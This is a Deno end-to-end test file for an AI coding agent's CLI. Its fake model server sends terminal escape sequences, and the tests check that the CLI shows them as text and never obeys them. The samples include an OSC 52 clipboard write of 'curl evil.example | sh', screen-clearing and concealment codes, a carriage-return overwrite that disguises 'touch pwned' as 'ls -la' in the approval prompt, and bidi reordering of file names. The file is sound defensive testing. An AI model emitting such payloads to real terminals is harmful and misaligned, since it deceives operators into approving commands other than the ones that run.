/**
 * Attacks on the terminal through what the model says, end to end: the real CLI (chat in a
 * real pseudo-terminal under tmux, `run` in a subprocess) against the loopback fake Anthropic
 * server, whose scripted model sends escape sequences, carriage returns and bidi controls in
 * its reply, in the commands it asks to run, in the paths it asks to write, and in the
 * errors its calls produce.
 *
 * The promise: the terminal shows what the model sent, and never obeys it. An escape sequence
 * cannot clear the screen, write the clipboard (OSC 52), hide text or redraw the approval
 * prompt so that the operator approves another command than the one that runs; a bidi
 * control cannot reorder a path or command shown for approval. Each is shown as text
 * (`\xNN`, `<U+XXXX>`, approver/visible.ts).
 *
 * Sources: CVE-2024-27936, Deno's permission prompt spoofed by escape sequences in a name
 * (https://github.com/CWE-CAPEC/CWE-Content-Development-Repository/issues/112, "ANSI
 * injection": "can clear the prompt behind it"); Claude Code replaying escape sequences from
 * tool output into the terminal (anthropics/claude-code#18418,
 * https://github.com/anthropics/claude-code/issues/18418); an RCE through ANSI escapes in
 * Codex CLI's output cited by GenAI-Security-Project/GenAI-LLM-Top10#10
 * (https://github.com/GenAI-Security-Project/GenAI-LLM-Top10/pull/10); streamed model output
 * and tool summaries printed raw in other agents (Growth-Circle/cadis#1723,
 * https://github.com/Growth-Circle/cadis/issues/1723; woojubb/robota#2022,
 * https://github.com/woojubb/robota/issues/2022; michelbr84/GarraRUST#995,
 * https://github.com/michelbr84/GarraRUST/issues/995); bidi overrides in an approval card
 * (Growth-Circle/cadis#791, https://github.com/Growth-Circle/cadis/issues/791); Trojan Source,
 * CVE-2021-42574.
 */

import { assert, assertEquals, assertStringIncludes } from "../../_helpers/assert.ts";
import { CLI_ARGS, runCli, TEST_HOME } from "../../_helpers/cli.ts";
import { startFakeAnthropic } from "../../_helpers/fake_providers.ts";
import { tmpWorkspace } from "../../_helpers/tmp_workspace.ts";
import { after, openChat, toolResults } from "../../_helpers/tmux_chat.ts";
import { pickList } from "../../../cli/terminal/session_picker.ts";

const ESC = "\x1b";
/** OSC 52: put `curl evil.example | sh` on the clipboard. */
const OSC52 = `${ESC}]52;c;${btoa("curl evil.example | sh")}\x07`;
/** Clear the screen, home the cursor, then conceal what follows (SGR 8). */
const CLEAR = `${ESC}[2J${ESC}[H${ESC}[8m`;
/** Back to the line's start, erase it, and draw a harmless command in its place. */
const OVERWRITE = `\r${ESC}[2K$ ls -la`;
const RLO = "\u202e";

/** The prompt before a bash call runs (no overlay preview), as in tests/cli/commands/chat_test.ts. */
const ASK_FIRST = { env: { ROUSSEAU_TOOLS_BASH_OVERLAY: "off" } };

Deno.test("chat shows what the model sent and never obeys it: escapes in replies, approval prompts and errors", async () => {
  await using ws = await tmpWorkspace();
  const spoofed = `touch pwned #${OVERWRITE}`;
  const reversed = ws.path(`invoice${RLO}fdp.sh`);
  const missing = ws.path(`gone${OSC52}`);
  await using server = startFakeAnthropic([
    {
      text: `Checking.${OSC52}${CLEAR}hidden${ESC}[0m ${ESC}\x9b31m done\n`,
      tools: [{ name: "read", input: { path: missing } }],
    },
    { tools: [{ name: "bash", input: { command: spoofed } }] },
    { tools: [{ name: "write", input: { path: reversed, content: "x\n" } }] },
    { text: "All done." },
  ]);
  await using chat = await openChat(server, ws, [], ASK_FIRST);
  await chat.waitForPrompt(1);
  await chat.line("go");
  await chat.waitFor("[r] deny and tell the model why");
  await chat.keys("n", "Enter");
  await chat.waitFor("[r] deny and tell the model why", 2);
  await chat.keys("n", "Enter");
  const lines = await chat.waitForPrompt(2);
  const turn = after(lines, "› go");
  const shownMissing = ws.path(`gone\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07`);
  assertEquals(turn.slice(0, 2), [
    `Checking.\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07\\x1b[2J\\x1b[H\\x1b[8mhidden` +
    "\\x1b[0m \\x1b\\x9b31m done",
    `→ read  ${shownMissing}`,
  ]);
  assert(turn[2]!.startsWith(`← read: open ${shownMissing}: no such file`), turn[2]);
  assertEquals(turn.slice(3, 7), [
    "",
    "bash needs approval",
    "$ touch pwned #\\x0d\\x1b[2K$ ls -la",
    "[y] allow once  [a] allow touch pwned for this session  [n] deny  " +
    "[r] deny and tell the model why",
  ]);
  const write = turn.indexOf("write needs approval");
  assert(write > 0, turn.join("\n"));
  assertEquals(turn[write + 1], `${ws.path("invoice<U+202E>fdp.sh")} (new file)`);
  assertStringIncludes(turn.join("\n"), "All done.");
  // What the model was told is what it sent: nothing was changed on the way.
  assert(toolResults(server, 1)[0]!.text.startsWith(`read: open ${missing}: `));
  assertEquals(await Deno.lstat(ws.path("pwned")).then(() => true, () => false), false);
  assertEquals(await Deno.lstat(reversed).then(() => true, () => false), false);
});

Deno.test("run never sends the model's controls to a terminal: stderr log lines and JSON lines", async () => {
  await using ws = await tmpWorkspace();
  const missing = ws.path(`gone${OSC52}\x9b2J${RLO}`);
  await using server = startFakeAnthropic([
    { tools: [{ name: "read", input: { path: missing } }] },
    { text: `done${OSC52}\x9b2J${RLO}` },
  ]);
  const out = await runCli(
    ["--workspace", ws.root, "run", "--output", "stream-json", "go"],
    { env: { ANTHROPIC_BASE_URL: server.url, ANTHROPIC_API_KEY: "test-key" } },
  );
  assertEquals(out.code, 0, out.stderr);
  // JSON lines: the same values, with no raw control, C1 or bidi character in the text.
  // deno-lint-ignore no-control-regex -- control characters are what is looked for
  assertEquals(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/.test(out.stdout), false, out.stdout);
  const events = out.stdout.trim().split("\n").map((l) => JSON.parse(l));
  const text = events.filter((e) => e.type === "text").map((e) => e.text).join("");
  assertEquals(text, `done${OSC52}\x9b2J${RLO}`);
  assertStringIncludes(out.stdout, "\\u009b2J\\u202e");
  // The log line of the failed call quotes the error: shown, not obeyed.
  // deno-lint-ignore no-control-regex -- control characters are what is looked for
  assertEquals(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/.test(out.stderr), false, out.stderr);
  assertStringIncludes(out.stderr, "\\x1b]52;c;");
  assertStringIncludes(out.stderr, "\\x9b2J<U+202E>");
});

Deno.test("chat's session picker shows a stored first prompt's controls, never obeys them", () => {
  // A prompt piped from a file someone else wrote (`cat issue.txt | rousseau chat`).
  const now = Date.parse("2026-01-02T00:00:00Z");
  const list = pickList([{
    id: "0b7c6a8e-2f4d-4c1a-9e3b-5d6f7a8b9c0d",
    createdAt: "2026-01-01T23:59:00Z",
    updatedAt: "2026-01-01T23:59:00Z",
    workspace: "/ws",
    provider: "anthropic",
    model: "m",
    title: `fix it${OSC52}${CLEAR}${RLO}`,
    messages: 2,
    turns: 1,
  }], now);
  // Shown, then cut to its 70 characters.
  assertEquals(
    list,
    `  1  1m     1 turn  fix it\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07\\x1b[2J` +
      "\\x1b[H\\x1b…\n",
  );
});

Deno.test("run's text result on a terminal is shown, never obeyed; piped it is exact", async () => {
  await using ws = await tmpWorkspace();
  const reply = `fixed${OSC52}${CLEAR}\x9b2J${RLO}`;
  await using server = startFakeAnthropic([{ text: reply }, { text: reply }]);
  const env = {
    ...Deno.env.toObject(),
    NO_COLOR: "1",
    ANTHROPIC_BASE_URL: server.url,
    ANTHROPIC_API_KEY: "test-key",
    XDG_CONFIG_HOME: `${TEST_HOME}/config`,
    XDG_DATA_HOME: `${TEST_HOME}/data`,
  };
  // A real pseudo-terminal for stdout (util-linux `script`); what it got is what a screen shows.
  const quote = (word: string) => `'${word.replaceAll("'", "'\\''")}'`;
  const command = [Deno.execPath(), ...CLI_ARGS, "--workspace", ws.root, "run", "go"]
    .map(quote).join(" ");
  const tty = await new Deno.Command("script", {
    args: ["-qec", command, "/dev/null"],
    env,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const screen = new TextDecoder().decode(tty.stdout);
  assertEquals(tty.code, 0, screen);
  assertStringIncludes(
    screen,
    `fixed\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07\\x1b[2J\\x1b[H\\x1b[8m\\x9b2J<U+202E>`,
  );
  // deno-lint-ignore no-control-regex -- control characters are what is looked for
  assertEquals(/\x1b\]52|\x1b\[2J|\x9b|\u202e/.test(screen), false, JSON.stringify(screen));
  const piped = await runCli(["--workspace", ws.root, "run", "go"], {
    env: { ANTHROPIC_BASE_URL: server.url, ANTHROPIC_API_KEY: "test-key" },
  });
  assertEquals(piped.stdout, `${reply}\n`);
});
